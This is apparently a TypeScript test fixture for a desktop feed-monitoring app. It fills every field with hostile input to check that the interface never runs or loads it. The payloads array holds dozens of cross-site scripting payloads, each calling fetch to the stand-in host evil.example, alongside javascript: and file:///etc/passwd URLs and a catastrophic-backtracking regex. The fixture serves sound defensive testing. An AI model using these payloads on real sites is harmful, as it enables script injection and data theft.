// A world in which every text that comes from elsewhere tries to run a script or to call out.
import { item } from './items';
import { job } from './jobs';
import { run } from './runs';
import { channel } from './telling';
import { MINUTE, iso, type World } from './world';

/** What a payload does when it runs: it is counted, and it asks a host that is not ours. */
const HIT = "window.__executed=(window.__executed||0)+1;fetch('https://evil.example/'+document.title)";

export const payloads: string[] = [
  `<script>${HIT}</script>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<img src=x onerror="${HIT}">`,
  `<img src="https://evil.example/pixel.gif">`,
  `<svg onload="${HIT}">`,
  `<svg><script>${HIT}</script></svg>`,
  `<svg><animate onbegin="${HIT}" attributeName=x dur=1s>`,
  `<svg><use href="https://evil.example/x.svg#a"/></svg>`,
  `<iframe srcdoc="<script>parent.${HIT}</script>"></iframe>`,
  `<iframe src="javascript:${HIT}"></iframe>`,
  `<object data="https://evil.example/x.swf"></object>`,
  `<embed src="https://evil.example/x.swf">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<style>@import "https://evil.example/x.css";*{background:url(https://evil.example/bg)}</style>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/">`,
  `<form action="https://evil.example/"><button>Go</button></form>`,
  `<input autofocus onfocus="${HIT}">`,
  `<details open ontoggle="${HIT}">x</details>`,
  `<video autoplay src="https://evil.example/v.mp4" onerror="${HIT}"></video>`,
  `<audio autoplay src="https://evil.example/a.mp3" onerror="${HIT}"></audio>`,
  `<body onload="${HIT}">`,
  `<marquee onstart="${HIT}">x</marquee>`,
  `<a href="javascript:${HIT}">click</a>`,
  `<math><mtext><img src=x onerror="${HIT}"></mtext></math>`,
  `<template><script>${HIT}</script></template>`,
  `"><script>${HIT}</script>`,
  `'><img src=x onerror="${HIT}">`,
  `" onmouseover="${HIT}" x="`,
  `' onfocus='${HIT}' autofocus x='`,
  `</title><script>${HIT}</script>`,
  `</textarea><script>${HIT}</script>`,
  `</style><script>${HIT}</script>`,
  `]]><script>${HIT}</script>`,
  `--><script>${HIT}</script><!--`,
  `{{constructor.constructor('${HIT}')()}}`,
  `\${${HIT}}`,
  `{@html '<img src=x onerror=${HIT}>'}`,
  `<noscript><p title="</noscript><img src=x onerror=${HIT}>">`,
  `<x style="background:url(javascript:${HIT})">x</x>`,
  `<button popovertarget=x onclick="${HIT}">x</button><div popover id=x onbeforetoggle="${HIT}">y</div>`,
  `<p id="app"></p><a id="__TAURI_INTERNALS__"></a><form name="body"><input name="parentNode">`,
  `\u202E<script>${HIT}</script>\u202C`,
  `\u0000<script>${HIT}</script>`,
  `&lt;script&gt;${HIT}&lt;/script&gt;`,
  `<scr<script>ipt>${HIT}</scr</script>ipt>`,
];

/** Addresses that no part of the window may open or load by itself. */
const addresses = [
  `javascript:${HIT}`,
  `JaVaScRiPt:${HIT}`,
  ` javascript:${HIT}`,
  `java\nscript:${HIT}`,
  `data:text/html,<script>parent.${HIT}</script>`,
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'https://evil.example/track?me',
  '//evil.example/x',
];

export function hostileWorld(world: World): World {
  const { now } = world;
  const pick = (index: number) => payloads[index % payloads.length] ?? '';
  const address = (index: number) => addresses[index % addresses.length] ?? '';
  world.jobs = payloads.map((payload, index) => job(index + 1, now, {
    name: payload,
    target_url: address(index),
    folder: index % 3 === 0 ? `${pick(index + 5)}/${pick(index + 9)}` : null,
    platform: index % 2 ? 'youtube' : 'feed',
    schedule_text: pick(index + 3),
    status: index % 4 === 0 ? 'failed' : 'active',
    status_reason: pick(index + 7),
    retry_at: index % 4 === 1 ? iso(now + 30 * MINUTE) : null,
    consecutive_failures: index % 4 < 2 ? 3 : 0,
    notification_email: pick(index + 11),
    is_stale: index % 4 === 2,
    last_success_at: iso(now - 5_000 * MINUTE),
    failing_since: index % 4 < 2 ? iso(now - 300 * MINUTE) : null,
    filters: { include: [{ kind: 'word', value: pick(index) }, { kind: 'regex', value: '(a+)+$' }], exclude: [], languages: [pick(index + 2)], min: { likes: null, reposts: null, replies: null, views: null } },
  }));
  world.jobs.forEach((from, index) => {
    const next = payloads.length - index;
    for (const round of [0, 1]) {
      const id = next + (1 - round) * payloads.length;
      world.items.push(item(id, from, now - (index + round * payloads.length) * MINUTE, {
        title: pick(index + round),
        text: `${pick(index)}\n\n${pick(index + 1)}\n${address(index)}`,
        snippet: pick(index),
        html: pick(index),
        url: address(index),
        language: index % 2 ? pick(index + 4) : 'x"onload=1',
        author: { name: pick(index + 2), handle: pick(index + 3), url: address(index), avatar: address(index + 1) },
        media: [{ url: address(index), type: pick(index + 4), alt: pick(index + 5), size: -1, duration_seconds: 1e9 }],
        tags: [pick(index + 6), pick(index + 8)],
        note: pick(index + 7),
        state: 'unread',
        starred: index % 2 === 0,
        revisions: 1,
      }));
      world.links.set(id, addresses.map((url, at) => ({ text: pick(index + at), url })));
      world.revisions.set(id, [{ title: pick(index + 9), text: pick(index + 10), replaced_at: iso(now) }]);
    }
    world.runs.push(run(index + 1, from.id, now - index * 3 * MINUTE, {
      status: index % 3 ? 'failed' : 'completed', outcome: index % 3 ? null : 'partial', error_code: index % 3 ? 'changed' : null, error_message: pick(index), may_have_missed: index % 3 === 0,
    }));
  });
  world.items.sort((a, b) => b.id - a.id);
  world.accounts.keys = [{ platform: 'x', state: 'wrong', set_at: iso(now), checked_at: iso(now), message: pick(2) }];
  world.accounts.settings = { x: { base_url: address(0), api_version: pick(26) } };
  world.holds = payloads.slice(0, 6).map((payload, index) => ({ scope: address(index) + String(index), code: 'blocked', reason: payload, since: iso(now), until: iso(now + 30 * MINUTE) }));
  world.gaps = payloads.slice(0, 8).map((payload, index) => ({ job_id: world.jobs[0]?.id ?? '', reason: 'failing', since: iso(now - (index + 2) * 60 * MINUTE), until: iso(now - (index + 1) * 60 * MINUTE), slots: 2, detail: payload }));
  world.settings.mail = { host: pick(1), port: 25, security: 'none', username: pick(2), from: pick(3), to: pick(4), digest: null };
  world.settings.webhook = { format: 'json', host: address(0), template: JSON.stringify({ text: pick(5) }), digest: null };
  world.channels = [channel('desktop', { problem: pick(6) }), channel('mail', { problem: pick(7), waiting: 3 }), channel('webhook', { problem: pick(26) })];
  world.notifications = payloads.map((payload, index) => ({
    id: 1_000 - index, job_id: world.jobs[index]?.id ?? '', run_id: address(index), job_name: pick(index + 1), platform: 'feed', kind: index % 2 ? 'new_items' : 'failure', title: payload, body: pick(index + 2), item_count: 1,
    items: [], created_at: iso(now - index * MINUTE), delivered_at: null, deliveries: [{ channel: 'mail', state: 'waiting', attempts: 2, delivered_at: null, last_error: pick(index + 3), next_attempt_at: null }],
  }));
  world.backups = payloads.slice(0, 5).map((payload, index) => ({ path: `${payload}${index}`, bytes: -1, created_at: iso(now) }));
  world.checks = payloads.slice(0, 9).map((payload, index) => ({ name: pick(index + 1), finding: 'bad', message: payload }));
  world.desktop.tray_problem = pick(0);
  world.desktop.notifications_problem = pick(2);
  world.desktop.api_problem = pick(4);
  world.desktop.api_address = address(0);
  return world;
}
